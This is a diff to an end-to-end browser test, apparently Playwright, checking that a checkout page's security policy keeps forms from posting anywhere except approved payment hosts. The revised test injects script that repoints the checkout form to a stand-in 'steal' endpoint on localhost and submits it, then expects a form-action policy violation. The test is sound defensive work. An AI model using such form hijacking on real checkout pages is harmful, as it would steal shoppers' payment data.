@@ -69,10 +69,14 @@ describe('the checkout page', () => {
   it('sends its forms nowhere but to the gateway, the provider and the host platform', async () => {
     const page = await stage.customer();
     await openCheckout(stage, page);
-    await page.evaluate("document.querySelector('form').action = 'http://localhost:9/steal'");
-    await page.getByRole('button', { name: 'UnionPay' }).click();
-    await page.waitForTimeout(200);
+    const complaint = page.waitForEvent('console', (message) => message.text().startsWith('securitypolicyviolation'));
+    await page.evaluate(`{
+      const form = document.querySelector('form');
+      form.action = 'http://localhost:9/steal';
+      form.submit();
+    }`);
+    expect((await complaint).text()).toMatch(/form-action http:\/\/localhost:9/);
     expect(page.url()).toContain('/checkout/');
-    expect(stage.takeProblems().join('\n')).toMatch(/securitypolicyviolation form-action/);
+    stage.takeProblems();
   });
 });
